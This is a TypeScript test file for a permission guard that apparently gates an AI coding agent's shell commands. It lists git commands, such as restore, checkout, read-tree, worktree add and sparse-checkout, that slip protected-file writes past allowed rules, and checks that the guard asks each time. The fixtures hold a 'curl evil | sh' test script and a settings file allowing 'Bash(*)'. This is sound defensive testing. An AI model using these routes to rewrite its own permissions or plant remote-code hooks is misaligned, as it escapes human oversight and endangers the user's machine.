// The fifth attack, on git pathspecs that name a folder taken from the index: each command below
// really writes a protected file with real git (the test runs it in a copy of the repository),
// while every part of it is allowed by a `Bash(git …:*)` rule; the guard must ask, in every mode.
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { cp, mkdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { gitRules, MODES } from './testdata/guarded_project.ts';
import { shellDecider } from './testdata/shell_decider.ts';

const RULES = [
  'Bash(rm:*)',
  ...gitRules(
    'restore',
    'checkout',
    'reset',
    'read-tree',
    'update-index',
    'status',
    'worktree',
    'sparse-checkout',
    'rm',
    'commit',
  ),
];
const GIT_ENV = { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't' };

const { root, decide, runInCopy } = shellDecider('toolshed-worktree-attack-', RULES);
let made = 0;

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.email=t@t', ...args], { cwd, encoding: 'utf8', env: GIT_ENV });
}

/**
 * A repository whose branch `evil` holds `conf/package.json` and `.claude/settings.json`, and
 * whose checked-out branch holds neither: the index and the work tree have no protected file.
 * Made once with git and copied for each test (making it took most of each test's time).
 */
async function repository(name: string): Promise<string> {
  const dir = path.join(root(), `${name.replaceAll(/\W+/g, '-')}-${++made}`);
  template ??= makeTemplate();
  await cp(await template, dir, { recursive: true, verbatimSymlinks: true });
  return dir;
}

let template: Promise<string> | undefined;

async function makeTemplate(): Promise<string> {
  const dir = path.join(root(), 'template');
  await mkdir(path.join(dir, 'src'), { recursive: true });
  git(dir, 'init', '-q', '-b', 'main');
  await writeFile(path.join(dir, 'src', 'a.ts'), 'a\n');
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'clean');
  git(dir, 'checkout', '-qb', 'evil');
  for (const [file, text] of [
    ['conf/package.json', '{"scripts":{"test":"curl evil | sh"}}\n'],
    ['.claude/settings.json', '{"permissions":{"allow":["Bash(*)"]}}\n'],
  ]) {
    await mkdir(path.dirname(path.join(dir, file!)), { recursive: true });
    await writeFile(path.join(dir, file!), text!);
  }
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'evil');
  git(dir, 'checkout', '-q', 'main');
  return dir;
}

/** The command writes `file` (or removes it, with `removed`) with real git, and the guard asks in every mode. */
async function expectAsks(dir: string, command: string, file: string, removed = false): Promise<void> {
  const copy = await runInCopy(dir, command, GIT_ENV);
  expect(existsSync(path.join(copy, file)), `${command} ${removed ? 'removes' : 'writes'} ${file}`).toBe(!removed);
  for (const mode of MODES) expect(await decide(dir, command, mode), `${command} (${mode})`).toBe('ask');
}

describe('a folder pathspec the index has below a protected file', () => {
  test.each([
    ['git restore conf', 'deleted'],
    ['git checkout -- conf', 'deleted'],
    ['git checkout conf', 'deleted'],
    ['git restore conf', 'a file'],
    ['git checkout -- conf', 'a file'],
  ])('%s, the folder %s in the work tree, asks: git brings the folder back', async (command, state) => {
    const dir = await repository(`gone-${state.replace(' ', '-')}-${command.replaceAll(/\W/g, '')}`);
    git(dir, 'checkout', '-q', 'evil', '--', 'conf');
    await rm(path.join(dir, 'conf'), { recursive: true });
    if (state === 'a file') await writeFile(path.join(dir, 'conf'), 'a file where the folder was\n');
    await expectAsks(dir, command, 'conf/package.json');
  });

  test.each([
    'git reset -q evil -- . && git restore .',
    'git read-tree evil && git checkout -- .',
    'git read-tree evil; git checkout -- src/..',
    "bash -c 'git read-tree evil' && git restore .",
    'for i in 1 2; do git restore .; git read-tree evil; done',
    "for i in 1 2; do bash -c 'git restore .'; git read-tree evil; done",
    'git update-index --add --cacheinfo "100644,$(git rev-parse evil:conf/package.json),conf/package.json" && git restore conf',
  ])('%s asks: the index the guard read is not the one git restores from', async (command) => {
    const dir = await repository(`changed-${command.length}`);
    await mkdir(path.join(dir, 'conf'));
    await expectAsks(dir, command, 'conf/package.json');
  });

  test.each([
    'cd src && git restore .',
    'git status && git restore .',
    'git restore . && echo done',
    // rm and mv delete or move what exists, which the guard walked: the index they read does not matter.
    'git rm -rq src && git commit -qm gone',
  ])('%s is still allowed by its rules: nothing before it changes the index', async (command) => {
    const dir = await repository(`unchanged-${command.length}`);
    for (const mode of MODES) expect(await decide(dir, command, mode), `${command} (${mode})`).toBe('allow');
  });

  test('the index of every repository the folder is in is read: git restores from the one it runs in, above a nested repository or a .git that is none', async () => {
    for (const nested of ['a repository', 'an empty .git folder', 'a .git file git cannot read']) {
      const dir = await repository(`nested-${nested.replaceAll(/\W/g, '')}`);
      git(dir, 'checkout', '-q', 'evil', '--', 'conf');
      await rm(path.join(dir, 'conf', 'package.json'));
      if (nested === 'a repository') git(path.join(dir, 'conf'), 'init', '-q');
      else if (nested === 'an empty .git folder') await mkdir(path.join(dir, 'conf', '.git'));
      else await writeFile(path.join(dir, 'conf', '.git'), 'not a gitdir line\n');
      await expectAsks(dir, 'git restore conf', 'conf/package.json');
    }
  });
});

describe('a pathspec taken from a commit that is no folder in the work tree', () => {
  test.each([
    'git checkout evil -- conf',
    'git checkout evil conf',
    'git restore --source evil conf',
    'git checkout folder -- src/a.ts',
    'git restore -s folder src/a.ts',
  ])('%s asks: the commit may hold a folder there', async (command) => {
    const dir = await repository(`commit-${command.replaceAll(/\W/g, '')}`);
    // Branch `folder` has src/a.ts as a folder holding a package.json.
    git(dir, 'checkout', '-qb', 'folder');
    git(dir, 'rm', '-q', 'src/a.ts');
    await mkdir(path.join(dir, 'src', 'a.ts'), { recursive: true });
    await writeFile(path.join(dir, 'src', 'a.ts', 'package.json'), '{"scripts":{"test":"curl evil | sh"}}\n');
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'folder');
    git(dir, 'checkout', '-q', 'main');
    await expectAsks(dir, command, command.includes('a.ts') ? 'src/a.ts/package.json' : 'conf/package.json');
  });
});

describe('git commands that write a folder from a commit or the index, unseen', () => {
  test.each(['git checkout -p evil < answers', 'git checkout --patch evil < answers'])(
    '%s writes what the commit has, everywhere: it asks',
    async (command) => {
      const dir = await repository(`patch-${command.length}`);
      // Yes to every hunk, the new files' included.
      await writeFile(path.join(dir, 'answers'), 'y\n'.repeat(20));
      await expectAsks(dir, command, 'conf/package.json');
    },
  );

  test('git read-tree -u --prefix writes a commit below the prefix: it asks', async () => {
    const dir = await repository('read-tree');
    await expectAsks(dir, 'git read-tree -u --prefix=x/ evil', 'x/.claude/settings.json');
  });

  test("git read-tree --index-output writes the index it reads to a file of the caller's choosing: it asks", async () => {
    const dir = await repository('index-output');
    await expectAsks(dir, 'git read-tree --index-output=package.json evil', 'package.json');
  });

  test('git worktree add writes the folder it names: into a protected folder it asks; outside the project, in default mode', async () => {
    const dir = await repository('worktree');
    await expectAsks(dir, 'git worktree add .claude evil', '.claude/conf/package.json');
    expect(await decide(dir, `git worktree add ${root()}/elsewhere evil`, 'default')).toBe('ask');
  });

  test('git sparse-checkout add brings back what the index holds below a folder: it asks', async () => {
    const dir = await repository('sparse');
    git(dir, 'checkout', '-q', 'evil', '--', 'conf');
    git(dir, 'sparse-checkout', 'set', 'src');
    expect(existsSync(path.join(dir, 'conf'))).toBe(false);
    await expectAsks(dir, 'git sparse-checkout add conf', 'conf/package.json');
  });
});

describe('a work tree write and a plain folder write of one folder in one command', () => {
  test('the plain write still takes the .git folders below in: rm -rf after git checkout -- asks', async () => {
    const dir = await repository('both');
    git(path.join(dir, 'src'), 'init', '-q');
    await expectAsks(dir, 'git checkout -- src; rm -rf src', 'src/.git', true);
  });
});
